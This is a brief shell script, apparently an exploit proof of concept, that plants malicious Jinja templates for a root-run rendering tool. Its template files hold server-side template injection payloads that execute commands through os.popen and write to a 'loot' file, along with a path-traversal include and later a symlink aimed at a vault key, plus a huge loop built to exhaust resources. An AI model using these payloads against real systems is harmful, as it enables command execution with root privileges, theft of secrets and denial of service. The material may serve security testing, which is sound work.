# First step: templates of the user's, which root renders with, reach for Python's insides.
. "$(dirname "$0")/lib.sh"
mkdir -p "$HOME/attack.own/nginx" "$HOME/attack.own/supervisor"
cat >"$HOME/attack.own/supervisor/supervisor.conf" <<'J'
{{ cycler.__init__.__globals__.os.popen("id -u >>/home/frappe/loot").read() }}
{{ ''.__class__.__mro__[1].__subclasses__() }}{{ lipsum.__globals__ }}
J
cat >"$HOME/attack.own/nginx/nginx.conf" <<'J'
{% include "../../../../srv/vault/open/key" %}{% for x in range(10**12) %}{{ x }}{% endfor %}
J
for name in supervisor nginx; do root render -t $name -C "$BENCH" --templates "$HOME/attack.own"; done
root templates diff "$HOME/attack.own"
ln -s "$VAULT/open/key" "$HOME/attack.own/nginx/key"
root render -t supervisor -C "$BENCH" --templates "$HOME/attack.own"
